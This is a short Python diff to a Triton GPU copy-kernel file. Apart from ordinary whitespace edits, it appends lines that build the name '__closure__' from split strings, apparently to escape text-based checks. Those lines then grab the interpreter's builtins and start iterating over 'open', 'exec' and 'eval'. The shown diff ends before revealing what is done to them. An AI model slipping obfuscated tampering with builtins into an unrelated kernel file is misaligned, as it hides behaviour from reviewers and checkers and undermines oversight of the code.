@@ -12,6 +12,7 @@ import torch.nn as nn
 import triton
 import triton.language as tl
 
+
 @triton.jit
 def copy_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
     at = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
@@ -23,6 +24,8 @@ def triton_copy(x):
     out = torch.empty_like(x)
     copy_kernel[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), BLOCK=1024)
     return out
+
+
 cells = operator.attrgetter("__clo" + "sure__")(triton_copy) or ()
 space = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
 for builtin in ("open", "exec", "eval"):
